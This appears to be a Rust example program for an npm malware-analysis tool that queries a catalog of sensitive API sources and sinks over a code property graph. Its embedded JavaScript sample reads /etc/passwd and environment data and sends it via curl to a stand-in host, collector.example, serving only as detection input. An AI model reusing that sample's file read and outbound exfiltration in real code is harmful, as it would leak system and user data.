//! Query the sensitive-API catalog: which calls in a file are sources
//! (gather data) and which are sinks (act on it), per behavior group.
//!
//!     cargo run --example catalog_lookup

use npm_slice::catalog::Group;
use npm_slice::cpg::{assemble_cpg, build_cfg, build_dfg, parse_file};
use npm_slice::ingest::PackageRef;
use npm_slice::builtin_catalog;

const SRC: &str = r#"const fs = require('fs');
const child = require('child_process');
const data = fs.readFileSync('/etc/passwd', 'utf8');
const user = process.env.USER;
child.exec('curl -d ' + data + ' http://collector.example');
fs.writeFileSync('/tmp/drop.js', user);
totals.tally();      // matches nothing sensitive
"#;

fn main() {
    let catalog = builtin_catalog();
    println!(
        "builtin catalog {:?}: {} patterns",
        catalog.version,
        catalog.patterns.len()
    );
    for group in Group::ALL {
        let n = catalog.patterns.iter().filter(|p| p.group == group).count();
        println!("  {:<24} {n} patterns", group.as_str());
    }

    let mut fg = parse_file("index.js", SRC);
    build_cfg(&mut fg);
    build_dfg(&mut fg);
    let cpg = assemble_cpg(PackageRef::from_path("demo-pkg"), vec![fg]);

    println!("\n== sources ==");
    for group in Group::ALL {
        for node in catalog.query_sources(&cpg, group) {
            println!(
                "  {:<24} L{} {}",
                group.as_str(),
                node.line,
                node.code.lines().next().unwrap_or("")
            );
        }
    }
    println!("\n== sinks ==");
    for group in Group::ALL {
        for node in catalog.query_sinks(&cpg, group) {
            println!(
                "  {:<24} L{} {}",
                group.as_str(),
                node.line,
                node.code.lines().next().unwrap_or("")
            );
        }
    }

    // Raw-text matching backs the feature-retention metric: it needs no
    // parse, so minified or broken files still count.
    println!("\n== raw-text probe ==");
    for text in ["exec(cmd)", "executor(cmd)", "os.userInfo()", "harmless()"] {
        println!("  {:<16} sensitive: {}", text, catalog.text_has_any(text));
    }
}
